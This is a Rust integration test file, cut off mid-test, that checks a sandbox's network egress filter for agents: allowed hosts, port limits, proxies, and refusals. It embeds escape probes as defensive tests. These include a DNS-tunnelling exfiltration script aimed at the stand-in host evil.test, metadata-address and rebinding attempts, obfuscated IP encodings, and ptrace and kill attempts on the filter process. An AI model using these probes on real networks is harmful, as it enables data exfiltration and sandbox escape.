//! The network of a ring, seen from outside: what was allowed works, and nothing else arrives anywhere.

#![expect(clippy::disallowed_methods, reason = "looks from outside")]

use std::collections::BTreeSet;
use std::fs;
use std::process::{Child, Command};
use std::time::Duration;

use outside::{Internet, Place, Ran, Who, everybody, until};
use serde_json::Value;

const MOST: Duration = Duration::from_secs(120);
const SOON: Duration = Duration::from_secs(20);

fn yaml(network: &str, command: &str) -> String {
    format!(
        "version: 1\nname: net\nring: standard\nworkspace: ./ws\ncommand: {command}\nnetwork: {network}\n"
    )
}

/// A place whose workspace has the programs of these tests.
fn place(who: Who, net: &Internet) -> Place {
    let place = Place::new(who);
    place.dir("ws");
    place.dir("state");
    let source = outside::sources().join("programs/net");
    for name in ["attack.py", "reach.sh"] {
        place.file(&format!("ws/{name}"), fs::read(source.join(name)).unwrap());
    }
    place.file("ws/ca.pem", fs::read(net.dir.join("ca.pem")).unwrap());
    place
}

fn start(place: &Place, net: &Internet, yaml: &str) -> Child {
    place.file("agent.yaml", yaml);
    let agt = place.agt(&["run", "--report", "state/report.json", "agent.yaml"]);
    net.beside(&agt).spawn().expect("a start")
}

/// Runs an agent beside the world, and returns its report as well.
fn run(place: &Place, net: &Internet, yaml: &str) -> (Ran, Value) {
    let ran = Ran::wait(start(place, net, yaml), MOST);
    (ran, report(place))
}

fn report(place: &Place) -> Value {
    let report = fs::read(place.dir.join("state/report.json")).unwrap_or_default();
    serde_json::from_slice(&report).unwrap_or_default()
}

/// How often something was refused of this name, port (0 for none) and kind.
fn refused(report: &Value, name: &str, port: u64, kind: &str) -> u64 {
    let all = report["network"]["refused"].as_array();
    let mut all = all.into_iter().flatten();
    let found = all.find(|one| {
        one["name"] == name && one["port"].as_u64().unwrap_or(0) == port && one["kind"] == kind
    });
    found.and_then(|one| one["count"].as_u64()).unwrap_or(0)
}

/// Fails unless everything that arrived anywhere is one of these. Names of DNS questions are compared
/// too, so a name that only carries data is found.
#[track_caller]
fn only(net: &Internet, allowed: &[&str]) {
    let seen: BTreeSet<String> = net.seen().into_iter().collect();
    let strange: Vec<&String> = seen
        .iter()
        .filter(|line| !allowed.contains(&line.as_str()))
        .collect();
    assert!(strange.is_empty(), "these arrived too: {strange:#?}");
}

fn program(net: &Internet, who: Who, args: &[&str]) -> Command {
    net.outside(who, args)
}

/// What a program beside the world says.
fn said(net: &Internet, who: Who, args: &[&str]) -> String {
    let done = program(net, who, args).output().expect("a program");
    String::from_utf8_lossy(&done.stdout).into_owned()
}

const DNS: &str = "packet udp 203.0.113.53:53";

/// A server on the host's loopback, ended when dropped.
struct Server(Child);

impl Server {
    fn start(net: &Internet, port: &str) -> Self {
        let www = net.dir.join("own");
        fs::create_dir_all(&www).unwrap();
        fs::write(www.join("index.html"), "from the host\n").unwrap();
        let www = www.to_str().unwrap();
        let args = ["/usr/bin/python3", "-m", "http.server", port, "--bind", "127.0.0.1", "-d", www];
        let server = Self(program(net, Who::Root, &args).spawn().expect("python3"));
        let url = format!("http://127.0.0.1:{port}/");
        until("the host's own server", SOON, || {
            said(net, Who::Root, &["curl", "-s", &url]).contains("from the host")
        });
        server
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _dead = self.0.kill();
        let _collected = self.0.wait();
    }
}

/// A repository that a web server without any help can serve.
fn repository(net: &Internet) {
    let script = "git init -q -b main r && cd r && echo cloned > file && git add file && \
        git -c user.name=n -c user.email=e commit -qm m && cd .. && git clone -q --bare r www/repo.git && \
        cd www/repo.git && git update-server-info";
    let made = Command::new("sh")
        .args(["-ec", script])
        .current_dir(&net.dir)
        .env("HOME", &net.dir)
        .output()
        .expect("sh");
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
}

fn checksum(net: &Internet) -> String {
    let done = Command::new("sha256sum").arg(net.dir.join("www/big")).output();
    let text = String::from_utf8(done.expect("sha256sum").stdout).unwrap();
    text.split(' ').next().unwrap().to_owned()
}

#[test]
fn what_is_allowed_is_reached_by_name_by_every_program() {
    let Some(net) = Internet::new() else { return };
    repository(&net);
    let _server = Server::start(&net, "18080");
    for who in everybody() {
        let place = place(who, &net);
        place.file("ws/big.sum", checksum(&net));
        let source = outside::sources().join("programs/net/reach.c");
        outside::compile_static(&[source], &place.dir.join("ws/reach"));
        let allow = "{allow: ['ok.test:80', 'ok.test:443', 'ok.test:9000', 'ok.test:8080', 'other.test:80', \
            '*.wild.test:80', 'six.test:80', 'tc.test:80', 'mixed.test:80', 'listed.test:80'], \
            host_ports: [18080]}";
        let _before = net.seen();
        let (ran, report) = run(&place, &net, &yaml(allow, "[bash, reach.sh]"));
        ran.expect_code(0);
        let lines: Vec<&str> = ran.stdout.lines().collect();
        let wrong: Vec<&&str> = lines.iter().filter(|line| !line.ends_with(" ok")).collect();
        assert!(wrong.is_empty() && lines.len() == 32, "{who:?} {wrong:#?} {ran:#?}");
        let connections = report["network"]["connections"].as_array().unwrap();
        let of = |name: &str, port: u64| {
            let mut all = connections.iter();
            all.find(|one| one["name"] == name && one["port"] == port)
        };
        let big = of("ok.test", 80).and_then(|one| one["bytes_in"].as_u64());
        assert!(big.is_some_and(|bytes| bytes > 8_000_000), "{report:#}");
        assert!(of("this host", 18080).is_some(), "{report:#}");
        ran.expect_said("network: ok.test:443 ");
        let names = ["ok", "other", "a.b.wild", "six", "tc", "mixed"].map(|name| format!("dns {name}.test"));
        let mut allowed = vec![
            DNS, "packet tcp 203.0.113.53:53", "packet tcp 203.0.113.10:80", "packet tcp 203.0.113.10:443",
            "packet tcp 203.0.113.10:9000", "packet tcp 203.0.113.10:8080", "packet tcp 203.0.113.11:80",
            "packet tcp [2001:db8::10]:80", "packet tcp 127.0.0.1:18080",
        ];
        allowed.extend(names.iter().map(String::as_str));
        only(&net, &allowed);
    }
}

#[test]
fn served_ports_appear_on_the_host_and_taken_ones_are_said() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        let serve = "mkdir a b; echo one > a/x; echo two > b/x; \
            python3 -m http.server 3000 --bind 127.0.0.1 -d a & \
            python3 -m http.server 3001 --bind 127.0.0.1 -d b & wait";
        let child = start(&place, &net, &yaml("{listen: [3000, 3001]}", &format!("[sh, -c, '{serve}']")));
        for (port, text) in [(3000, "one"), (3001, "two")] {
            let url = format!("http://127.0.0.1:{port}/x");
            until("a served port", SOON, || said(&net, who, &["curl", "-s", &url]).contains(text));
        }
        // Several at once, more than there are sockets in one moment.
        let many = "for n in $(seq 40); do curl -s --retry 5 --retry-all-errors http://127.0.0.1:3000/x & done; wait";
        let got = said(&net, who, &["sh", "-c", many]);
        assert!(got.lines().filter(|line| *line == "one").count() >= 30, "{got}");
        // Only the loopback of the host, not its other addresses.
        assert_eq!(said(&net, who, &["curl", "-s", "http://192.0.2.2:3000/x"]), "");
        let second = self::place(who, &net);
        let (ran, _) = run(&second, &net, &yaml("{listen: [3000]}", "['true']"));
        ran.expect_code(2).expect_said("agent.yaml:6").expect_said("3000");
        outside::signal(&child, rustix::process::Signal::TERM);
        let ran = Ran::wait(child, SOON);
        ran.expect_said("served:3000");
    }
}

#[test]
fn everything_goes_by_the_upstream_proxy() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        let script = "curl -sS http://ok.test/; curl -sS http://nowhere.test/; curl -sSk https://nowhere.test/; \
            curl -sS http://loop.test/; curl -sS http://denied.test/ || echo refused";
        let network = "{allow: ['ok.test:80', 'nowhere.test:80', 'nowhere.test:443', 'loop.test:80', 'denied.test:80'], \
            upstream_proxy: 'proxy.test:3128'}";
        let _before = net.seen();
        let (ran, report) = run(&place, &net, &yaml(network, &format!("[bash, -c, '{script}']")));
        assert_eq!(ran.expect_code(0).stdout, "welcome\nwelcome\nwelcome\nwelcome\nrefused\n", "{ran:?}");
        assert_eq!(refused(&report, "denied.test", 80, "not reachable"), 1, "{report:#}");
        let proxy = ["ok.test:80", "nowhere.test:80", "nowhere.test:443", "loop.test:80", "denied.test:80"]
            .map(|name| format!("proxy {name}"));
        let mut allowed = vec![DNS, "dns proxy.test", "packet tcp 198.51.100.7:3128", "packet tcp 203.0.113.10:80",
            "packet tcp 203.0.113.10:443"];
        // The proxy's own connections go over the world's loopback, which nobody watches.
        allowed.extend(proxy.iter().map(String::as_str));
        only(&net, &allowed);
    }
}

const LIMITS: &str = "import socket, time, urllib.request
def banner():
    s = socket.create_connection(('ok.test', 9000), 20)
    s.settimeout(20)
    return s, s.recv(7)
def fine(): return banner()[1] == b'banner\\n'
one, two = banner(), banner()
assert one[1] == two[1] == b'banner\\n'
try: print('third', banner()[1])
except OSError as error: print('third', type(error).__name__)
since = time.monotonic()
try: print('idle', one[0].recv(1))
except OSError as error: print('idle', type(error).__name__)
print('idle for', 1.5 < time.monotonic() - since < 10)
time.sleep(1)
try: print('bytes', len(urllib.request.urlopen('http://other.test/big', timeout=20).read()) < 8000000)
except Exception as error: print('bytes', True)
try: print('after', urllib.request.urlopen('http://other.test/', timeout=20).read())
except OSError as error: print('after', 'refused')
print('another host', urllib.request.urlopen('http://ok.test/', timeout=20).read())
";

#[test]
fn limits_of_connections_take_effect() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        place.file("ws/limits.py", LIMITS);
        let network = "{allow: ['ok.test:80', 'ok.test:9000', 'other.test:80'], \
            limits: {connections: 2, idle: 2s, bytes: 1M}}";
        let (ran, report) = run(&place, &net, &yaml(network, "[python3, limits.py]"));
        let want = "third ConnectionResetError\nidle ConnectionResetError\nidle for True\nbytes True\n\
            after refused\nanother host b'welcome\\n'\n";
        assert_eq!(ran.expect_code(0).stdout, want, "{ran:?}");
        assert!(refused(&report, "", 9000, "a limit") > 0, "{report:#}");
        assert!(refused(&report, "other.test", 80, "a limit") > 0, "{report:#}");
    }
}

const ALLOWED: &str = "{allow: ['ok.test:80', 'ok.test:443', 'other.test:80', 'other.test:8080', '*.wild.test:80', \
    'loop.test:80', 'zero.test:80', 'meta.test:80', 'azure.test:80', 'ten.test:80', 'own.test:80', 'own2.test:80', \
    'own6.test:80', 'loop6.test:80', 'mapped.test:80', 'nat64.test:80', 'ula.test:80', 'cname.test:80', \
    'synth.test:80']}";

/// Attempts that have to be open outside every ring; otherwise they would show nothing inside.
const OPEN_OUTSIDE: [&str; 41] = [
    "raw-v4", "raw-v4-of-allowed", "raw-v6", "raw-metadata", "raw-azure", "raw-own", "raw-own-2",
    "raw-own-v6", "raw-loopback", "raw-loopback-v6", "raw-mapped", "raw-zero", "raw-private", "name-evil",
    "name-suffix", "name-prefix", "name-doh", "port-of-another", "leads-loop", "leads-zero", "leads-meta",
    "leads-azure", "leads-ten", "leads-own", "leads-own2", "leads-own6", "leads-loop6", "leads-mapped",
    "leads-nat64", "leads-ula", "leads-cname", "dns-udp-there", "dns-udp-elsewhere", "dns-tcp-there",
    "dns-tcp-elsewhere", "udp-out", "udp-own", "sni-forged", "sni-none", "unix-abstract", "unix-path",
];
/// And these for root.
const OPEN_TO_ROOT: [&str; 4] = ["icmp-raw", "packet-socket", "namespace-net", "address"];

/// What the report says of attempts that agt-egress saw: name, port, kind, at least how often.
const REFUSED: [(&str, u64, &str, u64); 55] = [
    ("", 0, "not a proxy request", 10),
    ("", 80, "not a proxy request", 2),
    ("*.wild.test", 80, "not a proxy request", 1),
    ("0313.0.0161.0102", 80, "an address, not a name", 1),
    ("0xcb007142", 80, "an address, not a name", 1),
    ("127.0.0.1", 80, "an address, not a name", 3),
    ("127.1", 80, "an address, not a name", 1),
    ("169.254.169.254", 80, "an address, not a name", 1),
    ("198.18.7.7", 80, "an address that stands for no name", 1),
    ("198.19.0.77", 80, "an address that stands for no name", 1),
    ("2001:db8::66", 80, "an address, not a name", 1),
    ("203.0.113.10", 80, "an address, not a name", 1),
    ("203.0.113.66", 80, "an address, not a name", 3),
    ("3405803842", 80, "an address, not a name", 1),
    ("[2001:db8::66]", 80, "an address, not a name", 1),
    ("[::ffff:203.0.113.66]", 80, "an address, not a name", 1),
    ("[fe80::1%25lo]", 80, "an address, not a name", 1),
    ("[fe80::1%lo]", 80, "an address, not a name", 1),
    ("a:b@ok.test:80", 0, "not a proxy request", 1),
    ("azure.test", 80, "a private address", 2),
    ("cname.test", 80, "a private address", 2),
    ("doh.test", 0, "not in network.allow", 1),
    ("evil.test", 0, "not in network.allow", 1),
    ("evil.test", 80, "not in network.allow", 2),
    ("evilok.test", 0, "not in network.allow", 1),
    ("evilok.test", 80, "not in network.allow", 1),
    ("localhost", 80, "not in network.allow", 1),
    ("loop.test", 80, "this host's own address", 2),
    ("loop6.test", 80, "this host's own address", 2),
    ("mapped.test", 80, "this host's own address", 2),
    ("meta.test", 80, "a private address", 2),
    ("nat64.test", 80, "a private address", 2),
    ("ok..test", 80, "not a proxy request", 1),
    ("ok.test", 443, "TLS for another name", 3),
    ("ok.test", 443, "TLS without a server name", 1),
    ("ok.test", 443, "an encrypted server name", 2),
    ("ok.test", 443, "not TLS", 3),
    ("ok.test", 8080, "not in network.allow", 1),
    ("ok.test", 9999, "not in network.allow", 2),
    ("ok.test\0.evil.test", 80, "not a proxy request", 1),
    ("ok.test..", 80, "not a proxy request", 1),
    ("ok.test.evil.test", 0, "not in network.allow", 1),
    ("ok.test.evil.test", 80, "not in network.allow", 1),
    ("ok.test:0", 0, "not a proxy request", 1),
    ("ok.test:65616", 0, "not a proxy request", 1),
    ("ok.test:+80", 0, "not a proxy request", 1),
    ("ok.test@evil.test:80", 0, "not a proxy request", 1),
    ("ok_.test", 80, "not a proxy request", 1),
    ("other.test", 80, "TLS for another name", 1),
    ("own.test", 80, "this host's own address", 2),
    ("own2.test", 80, "this host's own address", 2),
    ("own6.test", 80, "this host's own address", 2),
    ("synth.test", 80, "a private address", 2),
    ("ten.test", 80, "a private address", 2),
    ("ula.test", 80, "a private address", 2),
];

/// `NAME open|shut WHY` for every attempt of attack.py.
fn attempts(text: &str) -> Vec<(&str, bool, &str)> {
    let one = |line: &'_ str| -> Option<(usize, bool)> {
        let (name, rest) = line.split_once(' ')?;
        Some((name.len(), rest.starts_with("open ")))
    };
    text.lines()
        .filter_map(|line| one(line).map(|(name, open)| (&line[..name], open, &line[name..])))
        .collect()
}

fn open(text: &str) -> BTreeSet<&str> {
    let all = attempts(text).into_iter().filter(|(_, open, _)| *open);
    all.map(|(name, ..)| name).collect()
}

#[test]
fn attempts_that_succeed_outside_every_ring_reach_nothing_from_inside_one() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        let attack = place.dir.join("ws/attack.py");
        let mut names: Vec<&str> = OPEN_OUTSIDE.to_vec();
        if who == Who::Root {
            names.extend(OPEN_TO_ROOT);
        }
        let mut args = vec!["/usr/bin/env", "-S", "", "/usr/bin/python3", attack.to_str().unwrap()];
        let canaries = format!("CANARY_DIR={}", net.dir.display());
        args[2] = &canaries;
        args.extend(&names);
        let control = said(&net, who, &args);
        let open_outside = open(&control);
        let silent: Vec<&&str> = names.iter().filter(|name| !open_outside.contains(*name)).collect();
        assert!(silent.is_empty(), "as {who:?} these show nothing: {silent:?}\n{control}");
        let canaries = net.seen();
        for line in ["packet tcp 203.0.113.66:80", "packet tcp 127.0.0.1:80", "packet udp 203.0.113.66:9"] {
            assert!(canaries.iter().any(|seen| seen == line), "{line} is not seen: {canaries:?}");
        }

        let command = format!("[env, 'CANARY_DIR={}', python3, attack.py]", net.dir.display());
        let (ran, report) = run(&place, &net, &yaml(ALLOWED, &command));
        ran.expect_code(0);
        let all = attempts(&ran.stdout).len();
        assert!(all >= 143, "only {all} attempts: {ran:#?}");
        assert_eq!(open(&ran.stdout), BTreeSet::new(), "{who:?} {}", ran.stdout);
        let missing: Vec<_> = REFUSED
            .iter()
            .filter(|(name, port, kind, least)| refused(&report, name, *port, kind) < *least)
            .collect();
        assert!(missing.is_empty(), "{who:?} {missing:#?}\n{:#}", report["network"]);
        ran.expect_said("refused: evil.test: no rule allows evil.test; add `evil.test:443`")
            .expect_said("refused: 198.18.7.7:80: 198.18.7.7 stands for no name of this run")
            .expect_said("refused: meta.test:80: meta.test resolves to 169.254.169.254, the cloud's metadata")
            .expect_said("refused: own.test:80: own.test resolves to 192.0.2.2, which is this host");
        let names = ["ok", "other", "loop", "zero", "meta", "azure", "ten", "own", "own2", "own6", "loop6",
            "mapped", "nat64", "ula", "cname", "synth"].map(|name| format!("dns {name}.test"));
        // By the proxy a tunnel is dialled before its client is judged; nothing is forwarded.
        let mut allowed = vec![DNS, "packet tcp 203.0.113.10:80", "packet tcp 203.0.113.10:443",
            "packet tcp 203.0.113.11:80"];
        allowed.extend(names.iter().map(String::as_str));
        only(&net, &allowed);
    }
}

const QUESTIONS: &str = "import os, socket, struct
def ask(name):
    labels = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.'))
    s.send(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + labels + struct.pack('>BHH', 0, 1, 1))
    return s.recv(4096)[3] & 15
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.connect(('198.18.0.1', 53))
data = [os.urandom(20).hex() for _ in range(500)]
print('evil', {ask(f'{one}.evil.test') for one in data})
print('allowed', {ask(f'{one}.ok.test') for one in data})
print('wild', {ask(f'{one}.wild.test') for one in data})
socket.create_connection(('reached.wild.test', 80), 10).sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
";

#[test]
fn questions_carry_nothing_out_and_only_connections_ask() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        place.file("ws/questions.py", QUESTIONS);
        let _before = net.seen();
        let allow = "{allow: ['ok.test:80', '*.wild.test:80']}";
        let (ran, report) = run(&place, &net, &yaml(allow, "[python3, questions.py]"));
        assert_eq!(ran.expect_code(0).stdout, "evil {3}\nallowed {3}\nwild {0}\n", "{ran:?}");
        let network = &report["network"];
        let all = network["refused"].as_array().unwrap();
        let count: u64 = all.iter().filter_map(|one| one["count"].as_u64()).sum();
        let more = network["more_refused"].as_u64().unwrap();
        assert_eq!(count + more, 1000, "{} and {more}", all.len());
        assert!(ran.stderr.lines().count() < 40, "{}", ran.stderr);
        only(&net, &[DNS, "dns reached.wild.test", "packet tcp 203.0.113.10:80"]);
    }
}

#[test]
fn an_answer_that_changes_is_dialled_as_it_was_judged() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        place.file(
            "ws/again.py",
            "import socket, time
good = bad = 0
for n in range(12):
    try:
        s = socket.create_connection(('rebind.test', 80), 10)
        s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
        good += b'200 OK' in s.recv(4096)
    except OSError: bad += 1
    time.sleep(0.15)
    if n == 5: time.sleep(1.1)
print(good > 0, bad > 0)
",
        );
        let _before = net.seen();
        let allow = "{allow: ['rebind.test:80']}";
        let (ran, report) = run(&place, &net, &yaml(allow, "[python3, again.py]"));
        assert_eq!(ran.expect_code(0).stdout, "True True\n", "{ran:?} {report:#}");
        assert!(refused(&report, "rebind.test", 80, "this host's own address") > 0, "{report:#}");
        only(&net, &[DNS, "dns rebind.test", "packet tcp 203.0.113.10:80"]);
    }
}

#[test]
fn private_ranges_are_ring_ones_to_declare_and_never_hold_metadata() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        let script = "for name in ten meta own loop; do echo $name $(curl -s http://$name.test/ -m 5 --http0.9); done";
        let network = "{allow: ['ten.test:80', 'meta.test:80', 'own.test:80', 'loop.test:80'], private: [10.0.0.0/8]}";
        let two = yaml(network, &format!("[bash, -c, '{script}']"));
        let (ran, _) = run(&place, &net, &two);
        ran.expect_code(2).expect_said("agent.yaml:6").expect_said("network.private");
        let _before = net.seen();
        let (ran, report) = run(&place, &net, &two.replace("standard", "privileged"));
        assert_eq!(ran.expect_code(0).stdout, "ten canary\nmeta\nown\nloop\n", "{ran:?}");
        assert_eq!(refused(&report, "meta.test", 80, "a private address"), 1, "{report:#}");
        only(&net, &[DNS, "dns ten.test", "dns meta.test", "dns own.test", "dns loop.test", "packet tcp 10.0.0.10:80"]);
    }
}

/// The processes of agt-egress that this supervisor has, seen from the host.
fn carriers(supervisor: u32) -> Vec<u32> {
    let named = outside::alive("agt-egress").into_iter();
    named.filter(|pid| is_below(*pid, supervisor)).collect()
}

fn status(pid: u32, key: &str) -> String {
    let text = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let line = text.lines().find_map(|line| line.strip_prefix(key)?.strip_prefix(':'));
    line.unwrap_or_default().trim().to_owned()
}

fn is_below(mut pid: u32, top: u32) -> bool {
    while pid > 1 {
        if pid == top {
            return true;
        }
        pid = status(pid, "PPid").parse().unwrap_or(0);
    }
    false
}

/// agt-egress itself, not its ring's init.
fn carrier(supervisor: u32) -> u32 {
    let mut found = None;
    until("agt-egress", SOON, || {
        found = carriers(supervisor).into_iter().find(|pid| {
            let line = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            line == b"agt-egress\0" && status(*pid, "Seccomp") == "2"
        });
        found.is_some()
    });
    found.unwrap()
}

const STEADY: &str = "import os, socket, sys, time
while not os.path.exists('stop'):
    try:
        with socket.create_connection(('ok.test', 80), 5) as s:
            s.settimeout(5)
            s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
            up = b'200 OK' in s.recv(4096)
    except OSError: up = False
    with open('log', 'a') as log: log.write('up\\n' if up else 'down\\n')
    time.sleep(0.1)
sys.exit(7)
";

/// How often an agent that runs STEADY reached its host so far.
fn ups(place: &Place) -> usize {
    let log = fs::read_to_string(place.dir.join("ws/log")).unwrap_or_default();
    log.lines().filter(|line| *line == "up").count()
}

/// Starts STEADY and waits until it reaches its host.
fn steady(place: &Place, net: &Internet) -> Child {
    place.file("ws/steady.py", STEADY);
    let _none = fs::remove_file(place.dir.join("ws/stop"));
    let _none = fs::remove_file(place.dir.join("ws/log"));
    let child = start(place, net, &yaml("{allow: ['ok.test:80']}", "[python3, steady.py]"));
    until("its network", SOON, || ups(place) > 2);
    child
}

fn send(pid: u32, signal: rustix::process::Signal) {
    let pid = rustix::process::Pid::from_raw(i32::try_from(pid).unwrap()).unwrap();
    rustix::process::kill_process(pid, signal).expect("kill");
}

/// A process that is not there, or a corpse.
fn is_gone(pid: u32) -> bool {
    let state = status(pid, "State");
    state.is_empty() || state.starts_with('Z')
}

#[test]
fn a_lost_carrier_comes_back_and_the_agent_lives_on() {
    use rustix::process::Signal;
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        let _before = net.seen();
        let child = steady(&place, &net);
        let mut all = Vec::new();
        let parent = |pid: u32| status(pid, "PPid").parse::<u32>().unwrap();
        // Itself, the init of its ring, and the ringd that holds it; and one that stands still.
        let victims: [(&str, Signal, fn(u32, &dyn Fn(u32) -> u32) -> u32); 4] = [
            ("agt-egress", Signal::KILL, |pid, _| pid),
            ("its init", Signal::KILL, |pid, parent| parent(pid)),
            ("its ringd", Signal::KILL, |pid, parent| parent(parent(pid))),
            ("agt-egress stopped", Signal::STOP, |pid, _| pid),
        ];
        for (what, signal, victim) in victims {
            let pid = carrier(child.id());
            all.push(pid);
            send(victim(pid, &parent), signal);
            until(what, Duration::from_secs(15), || is_gone(pid));
            let before = ups(&place);
            until(what, Duration::from_secs(15), || ups(&place) > before + 1);
        }
        all.push(carrier(child.id()));
        place.file("ws/stop", "");
        let ran = Ran::wait(child, SOON);
        ran.expect_code(7)
            .expect_said("agt-egress is gone: there is no network until it is back")
            .expect_said("agt-egress is back")
            .expect_said("net ended with exit code 7")
            .expect_said("agt-egress was lost and came back 4 times");
        assert_eq!(report(&place)["network"]["egress_restarts"], 4);
        until("nothing is left", SOON, || all.iter().all(|pid| is_gone(*pid)));
        only(&net, &[DNS, "dns ok.test", "packet tcp 203.0.113.10:80"]);
    }
}

#[test]
fn the_death_of_the_supervisor_is_that_of_its_carrier() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        let mut child = steady(&place, &net);
        let top = child.id();
        let pids = fs::read_dir("/proc").unwrap().flatten();
        let pids = pids.filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok());
        let all: Vec<u32> = pids.filter(|pid| is_below(*pid, top)).collect();
        assert!(all.contains(&carrier(top)) && all.len() >= 6, "{all:?}");
        child.kill().unwrap();
        child.wait().unwrap();
        until("all of it is gone", SOON, || all.iter().all(|pid| is_gone(*pid)));
    }
}

#[test]
fn garbage_and_crowds_end_no_carrier() {
    let Some(net) = Internet::new() else { return };
    let long = std::env::var_os("AGT_LONG").is_some();
    let count = if long { "1000000" } else { "10000" };
    for who in everybody() {
        let place = place(who, &net);
        let source = outside::sources().join("programs/net/garbage.py");
        place.file("ws/garbage.py", fs::read(source).unwrap());
        let _before = net.seen();
        let allow = "{allow: ['ok.test:80', 'ok.test:443', 'ok.test:9000']}";
        let child = start(&place, &net, &yaml(allow, &format!("[python3, garbage.py, '{count}']")));
        let ran = Ran::wait(child, if long { 60 * MOST } else { MOST });
        let want = "before True\nafter garbage True\nafter a crowd True\n";
        assert_eq!(ran.expect_code(0).stdout, want, "{ran:?}");
        let report = report(&place);
        assert_eq!(report["network"]["egress_restarts"], 0, "{}", ran.stderr);
        assert!(refused(&report, "", 3128, "a limit") > 0, "{:#}", report["network"]);
        only(&net, &[DNS, "dns ok.test", "packet tcp 203.0.113.10:80", "packet tcp 203.0.113.10:443",
            "packet tcp 203.0.113.10:9000"]);
    }
}

const NEIGHBOUR: &str = "import ctypes, os, socket, time
while not os.path.exists('pid'): time.sleep(0.05)
time.sleep(0.1)
pid = int(open('pid').read())
names = [open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()]
print('seen', any('agt-egress' in name for name in names), os.path.exists(f'/proc/{pid}'))
def errno(what, *args):
    try: what(*args)
    except OSError as error: return type(error).__name__
    return 'done'
print('signal', errno(os.kill, pid, 0), errno(os.kill, pid, 9))
libc = ctypes.CDLL(None, use_errno=True)
print('ptrace', libc.ptrace(16, pid, 0, 0), 'pidfd', libc.syscall(434, pid, 0))
print('memory', libc.syscall(310, pid, 0, 0, 0, 0, 0))
lines = open('/proc/net/unix').read().splitlines()[1:] if os.access('/proc/net/unix', os.R_OK) else []
print('named sockets', [line for line in lines if len(line.split()) > 7])
";

#[test]
fn the_carrier_holds_nothing_and_cannot_be_seen_from_inside() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        place.file("ws/neighbour.py", NEIGHBOUR);
        let _none = fs::remove_file(place.dir.join("ws/pid"));
        let network = "{allow: ['ok.test:80'], listen: [3000], host_ports: [4000]}";
        let child = start(&place, &net, &yaml(network, "[python3, neighbour.py]"));
        let pid = carrier(child.id());
        let link = |name: &str| fs::read_link(format!("/proc/{pid}/{name}")).unwrap();
        for (key, value) in [("Seccomp", "2"), ("NoNewPrivs", "1"), ("Groups", ""), ("Threads", "1")] {
            assert_eq!(status(pid, key), value, "{key}");
        }
        for key in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
            assert_eq!(status(pid, key), "0000000000000000", "{key}");
        }
        let agent = fs::metadata(place.dir.join("ws")).unwrap();
        let uid: u32 = status(pid, "Uid").split_whitespace().next().unwrap().parse().unwrap();
        match who {
            Who::Root => assert!(uid != 0 && uid != std::os::unix::fs::MetadataExt::uid(&agent), "{uid}"),
            Who::User => assert_eq!(uid, outside::USER),
        }
        // The host's network, and nothing else of the host.
        let net_of = |pid: u32| fs::read_link(format!("/proc/{pid}/ns/net")).unwrap();
        assert_eq!(net_of(pid), net_of(child.id()));
        for name in ["ns/mnt", "ns/pid", "ns/user", "ns/ipc", "ns/uts", "ns/cgroup"] {
            let host = fs::read_link(format!("/proc/{}/{name}", child.id())).unwrap();
            assert_ne!(link(name), host, "{name}");
        }
        let mut files = Vec::new();
        for dir in ["", "dev"] {
            let entries = fs::read_dir(format!("/proc/{pid}/root/{dir}")).unwrap().flatten();
            files.extend(entries.map(|entry| entry.file_name().into_string().unwrap()));
        }
        files.sort();
        assert_eq!(files, [".empty", "agt-egress", "dev", "null", "random", "urandom"]);
        assert_eq!(fs::read(format!("/proc/{pid}/environ")).unwrap(), b"");
        let sockets = fs::read_to_string(format!("/proc/{pid}/net/unix")).unwrap();
        let control = link("fd/0");
        let mut inets = 0;
        for entry in fs::read_dir(format!("/proc/{pid}/fd")).unwrap().flatten() {
            let to = fs::read_link(entry.path()).unwrap();
            let to = to.to_str().unwrap();
            let inode = to.strip_prefix("socket:[").and_then(|rest| rest.strip_suffix(']'));
            let known = inode.is_some_and(|inode| sockets.contains(&format!(" {inode}")));
            let is_control = Some(to) == control.to_str();
            inets += usize::from(inode.is_some() && !known);
            // The readiness of its own signals is a pair of its own.
            let files = ["/dev/null", "/dev/urandom", "anon_inode:[eventpoll]", "anon_inode:[eventfd]"];
            assert!(is_control || (inode.is_some() && !known) || files.contains(&to), "{to}\n{sockets}");
        }
        assert!(inets >= 5 + 16, "{inets}");
        // A message to the ring: the number of that process on the host.
        place.file("ws/pid", pid.to_string());
        let ran = Ran::wait(child, SOON);
        let want = "seen False False\nsignal ProcessLookupError ProcessLookupError\nptrace -1 pidfd -1\n\
            memory -1\nnamed sockets []\n";
        assert!(ran.expect_code(0).stdout.starts_with(want), "{ran:?}");
        assert_eq!(report(&place)["network"]["egress_restarts"], 0);
    }
}

#[test]
fn a_carrier_serves_its_own_ring_only() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        let first = steady(&place, &net);
        let ask = "import socket
for to in [('198.18.0.1', 3128), ('198.18.1.0', 80), ('198.18.0.1', 53)]:
    try:
        s = socket.create_connection(to, 3); s.settimeout(2)
